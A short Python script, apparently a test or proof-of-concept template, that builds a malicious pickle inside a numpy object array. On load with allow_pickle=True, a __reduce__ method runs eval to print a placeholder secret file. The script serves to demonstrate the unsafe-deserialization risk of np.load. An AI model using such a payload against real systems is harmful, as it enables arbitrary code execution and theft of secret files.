"""The reader below np.load."""
import io
import numpy as np
class Bomb:
    def __reduce__(self):
        return eval, ("print(open('@SECRET_FILE@').read())",)
stream = io.BytesIO()
np.lib.format.write_array(stream, np.array([Bomb()], object))
stream.seek(0)
np.lib.format.read_array(stream, allow_pickle=True)
